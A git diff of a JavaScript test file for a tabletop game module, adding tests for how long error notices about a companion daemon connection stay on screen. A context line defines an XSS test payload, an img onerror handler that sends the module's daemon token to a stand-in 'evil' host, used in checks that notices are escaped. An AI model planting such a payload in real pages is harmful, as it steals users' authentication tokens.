@@ -9,8 +9,9 @@ import { test } from "node:test";
 import assert from "node:assert/strict";
 import { readFileSync, readdirSync } from "node:fs";
 import path from "node:path";
+import * as E from "../mindscape/scripts/errors.js";
 import { MODULE_DIR } from "../test-support/fakes.mjs";
-import { makeTable } from "../test-support/scenario.mjs";
+import { defaultMethods, makeTable } from "../test-support/scenario.mjs";
 
 const EVIL = `<img src=x onerror="fetch('//evil/?t='+game.settings.get('mindscape','daemonToken'))">`;
 
@@ -48,4 +49,53 @@ test("no script shows a notice but through the one escaping helper", () => {
     .map((line, i) => ({ where: `${file}:${i + 1}`, line }))
     .filter(({ line }) => /notifications\s*\?*\.?\s*(\?\.)?\s*(\[|info|warn|error|notify)/.test(line)));
   assert.deepEqual(direct.map((d) => d.where), ["service.js:" + (readFileSync(path.join(dir, "service.js"), "utf8").split("\n").findIndex((l) => l.includes("notifications?.[kind]")) + 1)]);
+});
+
+/** Whether each notice a client was given stays until dismissed (Foundry's `permanent`), by kind. */
+const permanence = (client) => client.notes.given.map((n) => [n.kind, n.options?.permanent ?? false]);
+const ATTACK = { mode: "mind-thrust", multiplier: 1, range: "short" };
+
+test("an error only the GM can mend in the link to the companion (not running, token, origin, address) stays until dismissed; any other goes away by itself", () => {
+  const url = "http://127.0.0.1:39393";
+  const cases = [
+    [new E.DaemonUnreachableError({ url }), true],
+    [new E.DaemonAuthError({ url }), true],
+    [new E.DaemonForbiddenError({ url }), true],
+    [new E.BadDaemonUrlError({ url: "ftp://x" }), true],
+    [new E.NotPairedError({ url }), false],
+    [new E.DaemonHttpError({ url, status: 502 }), false],
+    [new E.RulesError({ code: 4001, message: "The rules forbid it", rule: "not-enough-psp", detail: "too few" }), false],
+    [new E.UsageError("MINDSCAPE.Error.NoTarget"), false],
+    // Only the module's own errors: a failure of something else that happens to be named alike is not one.
+    [Object.assign(new Error("refused"), { name: "DaemonAuthError" }), false],
+  ];
+  const { clients: { gm } } = makeTable();
+  const error = console.error;
+  console.error = () => {};
+  try {
+    for (const [e] of cases) gm.svc.notifyError(e);
+  } finally {
+    console.error = error;
+  }
+  assert.deepEqual(gm.notes.given.map((n) => [n.kind, n.options]), cases.map(([e, permanent]) => ["error", { permanent }]), cases.map(([e]) => e.name).join(", "));
+  // A cancelled request shows nothing.
+  gm.svc.notifyError(new E.CancelledError("MINDSCAPE.Error.Cancelled"));
+  assert.equal(gm.notes.given.length, cases.length);
+});
+
+test("a player's attack that the companion's token refuses leaves the GM, who can mend it, an error that stays, the player one that goes away; a refusal by the rules and warnings go away by themselves", async () => {
+  const t = makeTable({ token: "the-companion's" });
+  // The GM's client holds a token the companion does not know (it was renewed): HTTP 401.
+  t.clients.gm.game.settings.values.set("mindscape.daemonToken", "an-old-one");
+  assert.equal(await t.clients.p1.svc.startAttack({ attackerUuid: t.tokens.ulcenToken.uuid, targetUuids: [t.tokens.fenkaToken.uuid], attack: ATTACK }), null);
+  assert.match(t.clients.gm.notes.error[0], /mindscape token/);
+  assert.deepEqual(permanence(t.clients.gm), [["error", true]]);
+  // The player is told to ask the GM, who has the notice that stays.
+  assert.match(t.clients.p1.notes.error[0], /ask the GM to check it/);
+  assert.deepEqual(permanence(t.clients.p1), [["error", false]]);
+
+  const refusing = makeTable({ methods: defaultMethods({ "exchange.resolve": () => { throw { code: 4001, message: "The rules forbid it", data: { rule: "not-enough-psp", detail: "Ulcen needs 8 PSPs but holds 5" } }; } }) });
+  const gm = refusing.clients.gm;
+  assert.equal(await gm.svc.startAttack({ attackerUuid: refusing.tokens.ulcenToken.uuid, targetUuids: [refusing.tokens.fenkaToken.uuid], attack: ATTACK }), null);
+  assert.deepEqual(permanence(gm), [["error", false]]);
 });
